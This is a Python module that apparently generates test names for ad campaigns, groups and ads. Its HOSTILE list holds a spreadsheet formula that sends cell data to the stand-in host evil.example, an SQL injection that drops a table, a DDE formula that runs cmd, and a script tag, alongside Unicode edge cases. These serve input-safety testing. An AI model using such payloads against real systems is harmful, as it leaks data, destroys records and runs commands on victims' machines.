"""Names as people really type them, and as attackers would."""

from __future__ import annotations

from .chance import pick

# The first ads of every account carry these, one each.
HOSTILE = (
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "Robert'); DROP TABLE performance;--",
    'He said "buy" \\ now',
    "line\nbreak",
    "tab\tseparated\tname",
    "🔥 Sommer-Sale 50 % 👩‍👩‍👧",
    "עברית ימין לשמאל",
    "zero\u200bwidth and \u202eoverride\u202c",
    "e\u0301 combining, é composed",
    "NULL",
    "  padded  ",
    "very long " + "abcdefghij " * 35,
    "{{campaign.name}} %s %(x)s ${ENV}",
    "<script>alert(1)</script>",
    "+1-800-SALE",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "a,b;c|d",
    "C:\\temp\\new",
    "-2+3",
    "100% 日本語 \uff46\uff55\uff4c\uff4c",
)

_THEMES = ("Spring", "Black Friday", "Évergreen", "Brand", "Retargeting", "Ramadan", "双11", "Öko")
_AUDIENCES = ("DE 25-34", "Lookalike 1 %", "Broad", "Cart abandoners", "Women 35+", "Parents")
_FORMS = ("Video", "Carousel", "Image", "Reel", "Collection", "Story")


def campaign_name(seed: int, account: str, index: int) -> str:
    """Return the base name of a campaign."""
    if index == 0:
        return 'Brand "Always on", 2026\t(EU)'
    return f"{pick(_THEMES, seed, account, 'campaign', index)} {index:03d}"


def group_name(seed: int, account: str, index: int) -> str:
    """Return the base name of an ad group."""
    return f"{pick(_AUDIENCES, seed, account, 'group', index)} | {index:03d}"


def ad_name(seed: int, account: str, index: int) -> str:
    """Return the base name of an ad: a hostile one first, then ordinary ones."""
    if index < len(HOSTILE):
        return HOSTILE[index]
    return f"{pick(_FORMS, seed, account, 'ad', index)} {index:04d}"
